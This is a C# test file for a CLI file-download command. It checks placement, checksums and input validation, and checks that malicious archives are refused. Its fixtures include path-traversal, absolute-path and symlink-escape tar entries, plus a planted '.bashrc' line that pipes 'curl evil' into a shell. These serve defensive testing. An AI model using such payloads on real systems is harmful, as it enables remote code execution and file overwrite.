using System.Security.Cryptography;
using System.Text.Json;
using Octopoda.Cli.Tests.Support;

namespace Octopoda.Cli.Tests.Files;

/// <summary>
/// <c>octl file download</c> against a fake Brain on a real socket: placing, the checksum, and a node's archive that
/// tries to reach outside the directory or to place more than was asked for.
/// </summary>
public sealed class FileDownloadCommandTests : IDisposable
{
    private const UnixFileMode Mode640 = (UnixFileMode)0b110_100_000;

    private readonly OctlRunner _runner = new();

    [Fact]
    public async Task Download_File_IsPlacedWithItsModeAndTimeAndNoTemporaryFileIsLeft()
    {
        var tar = new TestArchive().File("app.conf", "port = 80\n", Mode640).Build();
        await using var brain = DownloadBrain.Serving(tar);
        Directory.CreateDirectory(Path.Combine(_runner.Directory.Path, "dl"));

        var result = await _runner.RunAsync("--brain", brain.Address.ToString(), "file", "download", "/etc/app.conf", "dl", "n1");

        Assert.True(result.ExitCode == ExitCodes.Success, result.ToString());
        var dl = Path.Combine(_runner.Directory.Path, "dl");
        var placed = Path.Combine(dl, "app.conf");
        Assert.Equal("port = 80\n", File.ReadAllText(placed));
        Assert.Equal((Mode640, TestArchive.Time.UtcDateTime), (File.GetUnixFileMode(placed), File.GetLastWriteTimeUtc(placed)));
        Assert.Equal(["app.conf"], Directory.EnumerateFileSystemEntries(dl).Select(Path.GetFileName));
        Assert.Equal($"placed app.conf in {dl} ({tar.Length} bytes received from n1, SHA-256 checked)\n", result.Out);
        Assert.Equal("", result.Error);
        Assert.Equal(("n1", "/etc/app.conf"), Assert.Single(brain.Asked));
    }

    [Fact]
    public async Task Download_DirectoryIntoWorkingDirectory_PlacesTheTreeWithItsLinks()
    {
        var tar = new TestArchive()
            .Directory("app/")
            .File("app/with space.txt", "spaced\n")
            .Directory("app/sub/")
            .File("app/sub/deep.txt", "deep\n")
            .Symlink("app/current", "sub/deep.txt")
            .Build();
        await using var brain = DownloadBrain.Serving(tar);

        var result = await _runner.RunAsync("--brain", brain.Address.ToString(), "-o", "json", "file", "download", "@fstore/app", "n1");

        Assert.True(result.ExitCode == ExitCodes.Success, result.ToString());
        var app = Path.Combine(_runner.Directory.Path, "app");
        Assert.Equal("spaced\n", File.ReadAllText(Path.Combine(app, "with space.txt")));
        Assert.Equal("deep\n", File.ReadAllText(Path.Combine(app, "sub", "deep.txt")));
        Assert.Equal("sub/deep.txt", new FileInfo(Path.Combine(app, "current")).LinkTarget);
        using var report = JsonDocument.Parse(result.Out);
        Assert.Equal(["app"], report.RootElement.GetProperty("placed").EnumerateArray().Select(e => e.GetString()));
        Assert.Equal(_runner.Directory.Path, report.RootElement.GetProperty("directory").GetString());
        Assert.Equal((tar.Length, Convert.ToHexStringLower(SHA256.HashData(tar))),
            (report.RootElement.GetProperty("bytes").GetInt64(), report.RootElement.GetProperty("sha256").GetString()));
    }

    [Fact]
    public async Task Download_PathWithSpacesQuotesAndNewline_ReachesTheBrainUntouched()
    {
        const string remote = "/srv/it's a \"dir\"/new\nline.txt";
        var tar = new TestArchive().File("new\nline.txt", "x").Build();
        await using var brain = DownloadBrain.Serving(tar);

        var result = await _runner.RunAsync("--brain", brain.Address.ToString(), "file", "download", remote, ".", "web 1");

        Assert.True(result.ExitCode == ExitCodes.Success, result.ToString());
        Assert.Equal(("web 1", remote), Assert.Single(brain.Asked));
        Assert.Equal("x", File.ReadAllText(Path.Combine(_runner.Directory.Path, "new\nline.txt")));
        Assert.StartsWith("placed new\\nline.txt in ", result.Out, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Download_ChecksumMismatch_FailsAndLeavesNothing()
    {
        var tar = new TestArchive().File("app.conf", "port = 80\n").Build();
        var wrong = new string('a', 64);
        await using var brain = DownloadBrain.Serving(tar, wrong);

        var result = await _runner.RunAsync("--brain", brain.Address.ToString(), "file", "download", "/etc/app.conf", "n1");

        Assert.Equal(ExitCodes.TaskFailed, result.ExitCode);
        Assert.Equal(
            $"error: the download of /etc/app.conf from n1 is damaged: the download's SHA-256 is {Convert.ToHexStringLower(SHA256.HashData(tar))}, "
            + $"not the {wrong} the Brain declared; it was discarded: try again\n",
            result.Error);
        Assert.Empty(Directory.EnumerateFileSystemEntries(_runner.Directory.Path));
    }

    [Theory]
    [InlineData("parent", "'..' segment")]
    [InlineData("absolute", "absolute name")]
    [InlineData("link", "symbolic link")]
    [InlineData("device", "device node")]
    public async Task Download_ArchiveReachingOutside_IsRefusedAndNothingIsPlaced(string attack, string reason)
    {
        var tar = attack switch
        {
            "parent" => new TestArchive().Directory("app/").File("app/../../escaped.txt", "owned").Build(),
            "absolute" => new TestArchive().File("/tmp/escaped.txt", "owned").Build(),
            "link" => new TestArchive().Directory("app/").Symlink("app/out", "../../..").File("app/out/escaped.txt", "owned").Build(),
            _ => new TestArchive().Directory("app/").CharacterDevice("app/null").Build(),
        };
        await using var brain = DownloadBrain.Serving(tar);
        var dl = Path.Combine(_runner.Directory.Path, "a", "b");
        Directory.CreateDirectory(dl);

        var result = await _runner.RunAsync("--brain", brain.Address.ToString(), "file", "download", "/srv/app", dl, "evil");

        Assert.Equal(ExitCodes.TaskFailed, result.ExitCode);
        Assert.StartsWith($"error: cannot place /srv/app from evil in {dl}: ", result.Error, StringComparison.Ordinal);
        Assert.Contains(reason, result.Error, StringComparison.Ordinal);
        Assert.Empty(Directory.EnumerateFileSystemEntries(dl));
        Assert.Equal(["b"], Directory.EnumerateFileSystemEntries(Path.Combine(_runner.Directory.Path, "a")).Select(Path.GetFileName));
        Assert.False(File.Exists("/tmp/escaped.txt") && File.ReadAllText("/tmp/escaped.txt") == "owned");
    }

    [Fact]
    public async Task Download_ArchiveWithAnExtraTopLevelEntry_IsRefused()
    {
        var tar = new TestArchive().File("app.conf", "port = 80\n").File(".bashrc", "curl evil | sh\n").Build();
        await using var brain = DownloadBrain.Serving(tar);

        var result = await _runner.RunAsync("--brain", brain.Address.ToString(), "file", "download", "/etc/app.conf", "n1");

        Assert.Equal(ExitCodes.TaskFailed, result.ExitCode);
        Assert.Equal(
            $"error: cannot place /etc/app.conf from n1 in {_runner.Directory.Path}: the downloaded archive holds 2 top-level entries "
            + "('.bashrc', 'app.conf') where one was asked for; nothing was placed\n",
            result.Error);
        Assert.Empty(Directory.EnumerateFileSystemEntries(_runner.Directory.Path));
    }

    [Fact]
    public async Task Download_ArchiveNamedOtherThanAskedFor_IsRefused()
    {
        var tar = new TestArchive().File(".bashrc", "curl evil | sh\n").Build();
        await using var brain = DownloadBrain.Serving(tar);

        var result = await _runner.RunAsync("--brain", brain.Address.ToString(), "file", "download", "/etc/app.conf", "n1");

        Assert.Equal(ExitCodes.TaskFailed, result.ExitCode);
        Assert.EndsWith("the downloaded archive holds '.bashrc' where 'app.conf' was asked for; nothing was placed\n", result.Error, StringComparison.Ordinal);
        Assert.Empty(Directory.EnumerateFileSystemEntries(_runner.Directory.Path));
    }

    [Fact]
    public async Task Download_ReplacesAnExistingEntryOfTheSameName()
    {
        _runner.Directory.Write("app.conf", "old\n");
        await using var brain = DownloadBrain.Serving(new TestArchive().File("app.conf", "new\n").Build());

        var result = await _runner.RunAsync("--brain", brain.Address.ToString(), "file", "download", "app.conf", "n1");

        Assert.True(result.ExitCode == ExitCodes.Success, result.ToString());
        Assert.Equal("new\n", File.ReadAllText(Path.Combine(_runner.Directory.Path, "app.conf")));
        Assert.Single(Directory.EnumerateFileSystemEntries(_runner.Directory.Path));
    }

    [Fact]
    public async Task Download_MissingLocalDirectory_ExitsUsageWithoutAnyRequest()
    {
        await using var brain = DownloadBrain.Serving(new TestArchive().File("app.conf", "x").Build());

        var result = await _runner.RunAsync("--brain", brain.Address.ToString(), "file", "download", "/etc/app.conf", "no/such", "n1");

        Assert.Equal(ExitCodes.Usage, result.ExitCode);
        Assert.Equal($"error: {Path.Combine(_runner.Directory.Path, "no", "such")} does not exist; use -f to create it, or name an existing directory\n", result.Error);
        Assert.Empty(brain.Requests);
    }

    [Fact]
    public async Task Download_LocalDirectoryIsAFile_ExitsUsageWithoutAnyRequest()
    {
        var file = _runner.Directory.Write("plain", "x");
        await using var brain = DownloadBrain.Serving(new TestArchive().File("app.conf", "x").Build());

        var result = await _runner.RunAsync("--brain", brain.Address.ToString(), "file", "download", "/etc/app.conf", "plain", "n1");

        Assert.Equal(ExitCodes.Usage, result.ExitCode);
        Assert.Equal($"error: {file} is a file, not a directory: name the directory to download into\n", result.Error);
        Assert.Empty(brain.Requests);
    }

    [Fact]
    public async Task Download_Force_CreatesTheLocalDirectory()
    {
        await using var brain = DownloadBrain.Serving(new TestArchive().File("app.conf", "x").Build());

        var result = await _runner.RunAsync("--brain", brain.Address.ToString(), "file", "download", "-f", "/etc/app.conf", "new/dir", "n1");

        Assert.True(result.ExitCode == ExitCodes.Success, result.ToString());
        Assert.Equal("x", File.ReadAllText(Path.Combine(_runner.Directory.Path, "new", "dir", "app.conf")));
    }

    [Fact]
    public async Task Download_BrainRefuses_ExitsApiErrorAndRemovesTheDirectoryItCreated()
    {
        await using var brain = DownloadBrain.Refusing(404, "no such file on n1: /etc/app.conf");

        var result = await _runner.RunAsync("--brain", brain.Address.ToString(), "file", "download", "-f", "/etc/app.conf", "new/dir", "n1");

        Assert.Equal((ExitCodes.ApiError, "error: no such file on n1: /etc/app.conf\n"), (result.ExitCode, result.Error));
        Assert.Empty(Directory.EnumerateFileSystemEntries(_runner.Directory.Path));
    }

    [Fact]
    public async Task Download_InterruptedWhileReceiving_ExitsCancelledAndLeavesNothing()
    {
        var receiving = new TaskCompletionSource(TaskCreationOptions.RunContinuationsAsynchronously);
        var release = new TaskCompletionSource(TaskCreationOptions.RunContinuationsAsynchronously);
        await using var brain = FakeBrain.Start(async (context, _) =>
        {
            context.Response.ContentType = "application/x-tar";
            context.Response.ContentLength64 = 1024 * 1024;
            context.Response.Headers[DownloadBrain.Sha256Header] = new string('0', 64);
            await context.Response.OutputStream.WriteAsync(new byte[64 * 1024]);
            await context.Response.OutputStream.FlushAsync();
            receiving.TrySetResult();
            await release.Task;
        });
        using var interrupt = new CancellationTokenSource();

        try
        {
            var run = _runner.RunAsync(interrupt.Token, "--brain", brain.Address.ToString(), "file", "download", "-f", "/srv/big.bin", "new/dir", "n1");
            await receiving.Task.Within("the download to start arriving");
            await interrupt.CancelAsync();
            var result = await run;

            Assert.True(result.ExitCode == ExitCodes.Cancelled, result.ToString());
            Assert.Equal("error: interrupted\n", result.Error);
            Assert.Empty(Directory.EnumerateFileSystemEntries(_runner.Directory.Path));
        }
        finally
        {
            release.SetResult();
        }
    }

    [Theory]
    [InlineData("file", "download", "/etc/app.conf")]
    [InlineData("file", "download", "/etc/app.conf", "a", "b", "n1")]
    [InlineData("file", "download", "/etc/app.conf", "brain")]
    [InlineData("file", "download", "", "n1")]
    [InlineData("file", "download", "/etc/app.conf", "a\0b", "n1")]
    public async Task Download_BadArguments_ExitUsageWithoutAnyRequest(params string[] args)
    {
        await using var brain = DownloadBrain.Serving(new TestArchive().File("app.conf", "x").Build());

        var result = await _runner.RunAsync(["--brain", brain.Address.ToString(), .. args]);

        Assert.True(result.ExitCode == ExitCodes.Usage, result.ToString());
        Assert.Empty(brain.Requests);
        Assert.Empty(Directory.EnumerateFileSystemEntries(_runner.Directory.Path));
    }

    public void Dispose() => _runner.Dispose();
}
